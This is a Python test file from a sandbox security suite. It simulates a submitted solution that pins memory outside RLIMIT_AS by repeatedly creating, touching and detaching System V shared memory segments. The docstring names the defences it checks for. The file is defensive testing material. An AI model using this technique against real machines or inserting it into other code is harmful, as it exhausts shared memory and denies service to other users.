"""Attack: take memory that RLIMIT_AS does not count. System V shared memory segments outlive the mapping (and
the process) that created them: create a 256 MiB segment, map it, touch every page, unmap it, create the next.
The address space never holds more than one segment, yet the machine loses 256 MiB per round. Stops at 1.5 GiB,
half again the limit (enough to prove the point without hurting the machine running the suite), printing what it
holds after every round; a refusal is reported as MemoryError with what it pinned so far.

Defence needed: no System V IPC in the sandbox (seccomp: shmget, shmat, msgget, semget, ...) or a memory cgroup
that charges shared memory. Flag "resource-limit", and never more pinned than memory_mb.
"""

import ctypes
import json
import sys

CAP_MB = 1536
SEGMENT_MB = 256


def _say(pinned, failed):
    text = "PINNED " + json.dumps({"pinned_mb": pinned, "failed": failed})
    print(text)
    sys.stdout.flush()
    return text


def layer_sizes(X, Y):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    libc.shmat.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int)
    libc.shmdt.argtypes = (ctypes.c_void_p,)
    pinned = 0
    while pinned < CAP_MB:
        segment = libc.shmget(0, SEGMENT_MB << 20, 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
        if segment < 0:
            raise MemoryError(_say(pinned, f"shmget errno {ctypes.get_errno()}"))
        address = libc.shmat(segment, None, 0)
        if address in (None, 2**64 - 1):
            raise MemoryError(_say(pinned, f"shmat errno {ctypes.get_errno()}"))
        ctypes.memset(address, 1, SEGMENT_MB << 20)
        libc.shmdt(address)
        pinned += SEGMENT_MB
        _say(pinned, None)
    raise RuntimeError(_say(pinned, None))
